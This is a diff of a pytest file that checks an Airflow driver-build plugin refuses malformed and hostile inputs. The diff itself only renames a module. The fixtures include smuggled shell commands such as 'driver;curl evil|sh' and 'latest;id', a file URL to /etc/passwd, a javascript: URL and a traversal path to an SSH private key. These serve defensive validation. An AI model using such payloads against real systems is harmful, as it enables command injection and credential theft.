@@ -1,7 +1,8 @@
 """Every run input fed malformed, hostile and oversized values: each is refused, naming its field.
 
 Three doors bring values into a run: the form (params, through ``config.run_config`` and the
-``validate_inputs`` task), release events, and the discovery Variables (``discovery.settings_from_values``);
+``validate_inputs`` task), release events, and the discovery Variables
+(``releases.variables.settings_from_values``);
 installation settings are the fourth. The tables below feed each field the same families of bad values:
 shell metacharacters, control characters and newlines, path traversal, unicode look-alikes, 10 kB
 strings and wrong types. Every one must raise before anything else happens, with a message that names
@@ -22,8 +23,9 @@ from test_trigger import FakeSupervisor, drive, make_trigger, serve
 from test_trigger import server as server
 from test_trigger import supervisor as supervisor
 
-from precompiled_drivers import discovery, tasks
+from precompiled_drivers import tasks
 from precompiled_drivers.config import run_config
+from precompiled_drivers.releases import variables
 from precompiled_drivers.settings import Settings
 from precompiled_drivers.validation import ValidationError
 
@@ -135,7 +137,7 @@ def valid_params() -> dict[str, Any]:
     }
 
 
-def assert_names(err: ValidationError | discovery.SettingsError, field: str) -> None:
+def assert_names(err: ValidationError | variables.SettingsError, field: str) -> None:
     """The error names the field (the reported field, and in the text a user reads)."""
     if isinstance(err, ValidationError):
         assert err.field == field or err.field.startswith(f"{field}["), (err.field, field)
@@ -191,9 +193,9 @@ HOSTILE_VARIABLE_TEXT = [
     ("nul", "stable-4.18\x00"),
 ]
 VARIABLE_CASES = (
-    [pytest.param(discovery.VAR_CHANNELS, v, id=f"channels-{label}") for label, v in HOSTILE_VARIABLE_TEXT]
+    [pytest.param(variables.VAR_CHANNELS, v, id=f"channels-{label}") for label, v in HOSTILE_VARIABLE_TEXT]
     + [
-        pytest.param(discovery.VAR_CHANNELS, v, id=f"channels-{label}")
+        pytest.param(variables.VAR_CHANNELS, v, id=f"channels-{label}")
         for label, v in [
             ("json of ints", "[1, 2]"),
             ("json object", '{"a": "stable-4.18"}'),
@@ -201,9 +203,9 @@ VARIABLE_CASES = (
             ("100 channels", ",".join(f"stable-4.{i}" for i in range(100))),
         ]
     ]
-    + [pytest.param(discovery.VAR_ARCHES, v, id=f"arches-{label}") for label, v in HOSTILE_VARIABLE_TEXT]
+    + [pytest.param(variables.VAR_ARCHES, v, id=f"arches-{label}") for label, v in HOSTILE_VARIABLE_TEXT]
     + [
-        pytest.param(discovery.VAR_GRAPH_URL, v, id=f"graph_url-{label}")
+        pytest.param(variables.VAR_GRAPH_URL, v, id=f"graph_url-{label}")
         for label, v in [
             ("file scheme", "file:///etc/passwd"),
             ("javascript", "javascript:alert(1)"),
@@ -217,7 +219,7 @@ VARIABLE_CASES = (
         ]
     ]
     + [
-        pytest.param(discovery.VAR_CA_BUNDLE, v, id=f"ca_bundle-{label}")
+        pytest.param(variables.VAR_CA_BUNDLE, v, id=f"ca_bundle-{label}")
         for label, v in [
             ("relative", "ca.pem"),
             ("traversal", "/etc/pki/../../root/.ssh/id_rsa"),
@@ -228,7 +230,7 @@ VARIABLE_CASES = (
         ]
     ]
     + [
-        pytest.param(discovery.VAR_POLL_INTERVAL, v, id=f"poll_interval-{label}")
+        pytest.param(variables.VAR_POLL_INTERVAL, v, id=f"poll_interval-{label}")
         for label, v in [
             ("word", "hourly"),
             ("nan", "nan"),
@@ -240,7 +242,7 @@ VARIABLE_CASES = (
         ]
     ]
     + [
-        pytest.param(discovery.VAR_FIRST_SIGHT, v, id=f"first_sight-{label}")
+        pytest.param(variables.VAR_FIRST_SIGHT, v, id=f"first_sight-{label}")
         for label, v in [
             ("unknown", "everything"),
             ("shell", "latest;id"),
@@ -248,7 +250,7 @@ VARIABLE_CASES = (
         ]
     ]
     + [
-        pytest.param(discovery.VAR_LOOKAHEAD, v, id=f"lookahead-{label}")
+        pytest.param(variables.VAR_LOOKAHEAD, v, id=f"lookahead-{label}")
         for label, v in [
             ("word", "maybe"),
             ("shell", "true;id"),
@@ -256,7 +258,7 @@ VARIABLE_CASES = (
         ]
     ]
     + [
-        pytest.param(discovery.VAR_LOOKAHEAD_LIMIT, v, id=f"lookahead_limit-{label}")
+        pytest.param(variables.VAR_LOOKAHEAD_LIMIT, v, id=f"lookahead_limit-{label}")
         for label, v in [
             ("fraction", "2.5"),
             ("too many", "1000"),
@@ -270,8 +272,8 @@ VARIABLE_CASES = (
 
 @pytest.mark.parametrize(("variable", "value"), VARIABLE_CASES)
 def test_discovery_variable_refused(variable: str, value: str) -> None:
-    with pytest.raises(discovery.SettingsError) as err:
-        discovery.settings_from_values({variable: value})
+    with pytest.raises(variables.SettingsError) as err:
+        variables.settings_from_values({variable: value})
     assert_names(err.value, variable)
 
 
@@ -305,7 +307,7 @@ def test_the_task_refuses_before_planning(monkeypatch: pytest.MonkeyPatch) -> No
     from airflow.sdk.exceptions import AirflowFailException
 
     monkeypatch.setenv("PRECOMPILED_DRIVERS_TARGET_REPOSITORY", "quay.io/acme/nvidia")
-    monkeypatch.setattr(discovery, "load_settings", lambda: discovery.settings_from_values({}))
+    monkeypatch.setattr(variables, "load_settings", lambda: variables.settings_from_values({}))
     params = valid_params()
     params["image_name"] = "driver;curl evil|sh"
     with pytest.raises(AirflowFailException) as err:
@@ -320,17 +322,17 @@ def test_the_task_refuses_before_planning(monkeypatch: pytest.MonkeyPatch) -> No
     ours = [line for line in shown.splitlines() if "plugins/precompiled_drivers" in line]
     assert len(ours) == 1 and "tasks.py" in ours[0], shown
 
-    def hostile_variables() -> discovery.DiscoverySettings:
-        return discovery.settings_from_values({discovery.VAR_LOOKAHEAD_LIMIT: "3;id"})
+    def hostile_variables() -> variables.DiscoverySettings:
+        return variables.settings_from_values({variables.VAR_LOOKAHEAD_LIMIT: "3;id"})
 
-    monkeypatch.setattr(discovery, "load_settings", hostile_variables)
+    monkeypatch.setattr(variables, "load_settings", hostile_variables)
     with pytest.raises(AirflowFailException) as err:
         tasks.validate_inputs(valid_params())
-    assert discovery.VAR_LOOKAHEAD_LIMIT in str(err.value) and "'3;id'" in str(err.value)
+    assert variables.VAR_LOOKAHEAD_LIMIT in str(err.value) and "'3;id'" in str(err.value)
     assert "\n" not in str(err.value) and err.value.__cause__ is None
 
     monkeypatch.setenv("PRECOMPILED_DRIVERS_RETRY_DELAY_SECONDS", "30;id")
-    monkeypatch.setattr(discovery, "load_settings", lambda: discovery.settings_from_values({}))
+    monkeypatch.setattr(variables, "load_settings", lambda: variables.settings_from_values({}))
     with pytest.raises(AirflowFailException, match="PRECOMPILED_DRIVERS_RETRY_DELAY_SECONDS"):
         tasks.validate_inputs(valid_params())
 
